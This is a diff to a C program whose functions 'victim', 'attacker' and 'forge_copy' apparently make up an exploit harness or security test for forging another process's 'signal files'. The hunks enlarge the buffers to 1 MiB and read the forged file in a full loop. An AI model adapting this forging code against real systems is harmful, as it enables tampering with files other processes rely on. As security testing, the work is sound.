@@ -133,7 +133,7 @@ static void victim(const struct sig_ops *o, int go, int ready, int out)
 static int forge_copy(const char *dir, pid_t v, const char *path, mode_t mode)
 {
 	char own[4200];
-	unsigned char buf[1 << 16];
+	static unsigned char buf[1 << 20];	/* a signal file is ~220 KiB */
 	sigset_t s;
 	pid_t c;
 	int fd;
@@ -157,7 +157,13 @@ static int forge_copy(const char *dir, pid_t v, const char *path, mode_t mode)
 	fd = open(own, O_RDONLY);
 	if (fd < 0)
 		return -1;
-	n = read(fd, buf, sizeof(buf));
+	for (n = 0;;) {
+		ssize_t got = read(fd, buf + n, sizeof(buf) - (size_t)n);
+
+		if (got <= 0)
+			break;
+		n += got;
+	}
 	close(fd);
 	unlink(own);
 	if (n < 24)
@@ -179,7 +185,7 @@ static int forge_copy(const char *dir, pid_t v, const char *path, mode_t mode)
 static void attacker(int k, pid_t v, int out)
 {
 	char dir[4096], path[4200], aside[4200], line[160];
-	unsigned char junk[1 << 16];
+	static unsigned char junk[1 << 20];
 	int n = -1, fd;
 
 	alarm(20);
